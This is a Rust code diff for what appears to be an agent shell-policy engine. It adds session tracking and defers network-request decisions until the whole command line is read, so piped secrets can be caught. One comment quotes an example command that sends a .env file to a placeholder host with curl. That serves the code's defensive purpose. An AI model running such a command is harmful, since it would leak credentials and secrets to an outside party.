@@ -9,7 +9,7 @@
 use crate::decision::{Decision, Rejection, ShellDecision};
 use crate::eval::{self, EvalOptions};
 use crate::policy::PolicySet;
-use crate::request::{Domain, ExecRequest, PathOp, Request, RequestKind};
+use crate::request::{Domain, ExecRequest, PathOp, Request, RequestKind, Session};
 use crate::shell_env::is_inert;
 use contextos_grammar::ast::Effect;
 use contextos_shell::{FileEffects, SimpleCommand};
@@ -27,6 +27,11 @@ pub struct ShellOptions<'a> {
     /// Where the line runs, so file targets can be brought into project-relative form.
     /// Without it, targets are judged relative to the project root.
     pub base: Option<&'a ShellBase>,
+    /// The agent session the line comes from; every part is decided in it.
+    pub session: Option<&'a Session>,
+    /// Secret material the caller found in the line itself (`secret:DETECTOR`, from the
+    /// scan detectors): every network request of the line carries it.
+    pub carries: &'a [String],
 }
 
 /// Decides a shell command line ([`PolicySet::decide_shell`] calls it).
@@ -129,6 +134,12 @@ fn decide_commands(
     let default_base = ShellBase::default();
     let base = opts.base.unwrap_or(&default_base);
     let role = role.map(str::to_string);
+    let session = opts.session.cloned();
+    // What the whole line reads, and where each command reaches: network requests are
+    // decided after the line, since a pipe or a substitution may feed a sender from a
+    // command written after it (`curl -d @- x <<< "$(cat .env)"`).
+    let mut line_reads: Vec<String> = Vec::new();
+    let mut reaches: Vec<Reach> = Vec::new();
     let mut parts: Vec<Decision> = Vec::new();
     let mut guesses = Vec::new();
     // The strongest line-level finding, with the verdict it carries.
@@ -323,7 +334,9 @@ fn decide_commands(
         for t in &targets {
             let d = eval::decide(
                 set,
-                &Request::path(t.op, t.place.clone()).with_role(role.clone()),
+                &Request::path(t.op, t.place.clone())
+                    .with_role(role.clone())
+                    .with_session(session.clone()),
                 eval,
             );
             let outside = crate::shell_place::is_outside(&t.place);
@@ -345,7 +358,9 @@ fn decide_commands(
             || (opaque.is_empty() && modelled(cmd, &fx, &dir, dynamic_targets, outside_unallowed));
         // A bare redirection (`> file`) runs no program; only its writes are decided.
         if !cmd.argv.is_empty() {
-            let exec = Request::new(RequestKind::Exec(req.clone())).with_role(role.clone());
+            let exec = Request::new(RequestKind::Exec(req.clone()))
+                .with_role(role.clone())
+                .with_session(session.clone());
             parts.push(launder_guard(set, eval::decide(set, &exec, eval), &req));
         }
         for (d, guess) in file_parts {
@@ -354,9 +369,29 @@ fn decide_commands(
             }
             parts.push(d);
         }
+        line_reads.extend(
+            targets
+                .iter()
+                .filter(|t| t.op == PathOp::Read)
+                .map(|t| t.place.clone()),
+        );
+        for dest in &fx.network {
+            reaches.push(Reach::of(&req, dest));
+        }
         let (links, downloads) = learn(&fx, &req, &resolve);
         state.links.extend(links);
         state.downloaded.extend(downloads);
+    }
+    if !reaches.is_empty() {
+        parts.extend(crate::shell_net::decide_reaches(
+            set,
+            &reaches,
+            &line_reads,
+            opts.carries,
+            role.as_deref(),
+            session.as_ref(),
+            eval,
+        ));
     }
     let mut verdict = parts.iter().map(|p| p.verdict).max();
     if let Some((v, _)) = &rejection {
@@ -371,6 +406,8 @@ fn decide_commands(
         rejection: rejection.map(|(_, r)| r),
     }
 }
+
+use crate::shell_net::Reach;
 
 /// What later steps of the line must know: links made (link, what it reaches) and files
 /// downloaded (file, program).
